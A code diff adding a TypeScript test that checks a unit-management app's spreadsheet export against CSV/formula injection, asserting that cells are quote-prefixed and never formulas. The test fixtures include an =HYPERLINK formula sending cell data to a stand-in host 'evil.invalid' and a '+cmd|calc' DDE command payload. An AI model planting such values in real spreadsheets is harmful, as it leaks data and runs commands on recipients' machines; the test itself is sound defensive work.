@@ -108,3 +108,37 @@ describe(`import and export (${engineName})`, () => {
     expect(exported[1][5]).toBe('单位联络员');
   });
 });
+
+describe(`formulas never leave in an export (${engineName})`, () => {
+  it('a unit named =HYPERLINK(…) exports as text with a leading quote, and imports back unchanged', async () => {
+    const ExcelJS = (await import('exceljs')).default;
+    const office = await t.as('office');
+    const name = `=HYPERLINK("http://evil.invalid/?"&A1,"点我")${t.tag}`;
+    const file = await workbook(UNIT_HEADERS, [[name, '县直部门', `${t.countyCode}001`, '', '@SUM(1+1)', '13900005555', '+cmd|calc', '', '启用']]);
+    const imported = await office.upload('/api/units/import', file);
+    expect(imported.status, JSON.stringify(imported.body)).toBe(201);
+    const exported = (await office.get(`/api/units/export?regionId=${t.townAId}`)).raw;
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(exported as unknown as ArrayBuffer);
+    const ws = wb.worksheets[0];
+    let found = 0;
+    ws.eachRow((row) => {
+      row.eachCell((cell) => {
+        // No cell of the export is a formula, and no text cell starts with = + - @.
+        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@]/);
+      });
+      if (row.getCell(1).value === `'${name}`) {
+        found += 1;
+        expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
+        expect(row.getCell(5).value).toBe("'@SUM(1+1)");
+        expect(row.getCell(7).value).toBe("'+cmd|calc");
+      }
+    });
+    expect(found).toBe(1);
+    // The export re-imports as the same unit (the quote is dropped on reading), not a new one named "'=…".
+    expect((await office.upload('/api/units/import', exported)).body).toMatchObject({ created: 0 });
+    const list = await office.get(`/api/units?search=${encodeURIComponent(t.tag)}&pageSize=100`);
+    expect(list.body.items.filter((u: { name: string }) => u.name.includes('HYPERLINK')).map((u: { name: string }) => u.name)).toEqual([name]);
+  });
+});
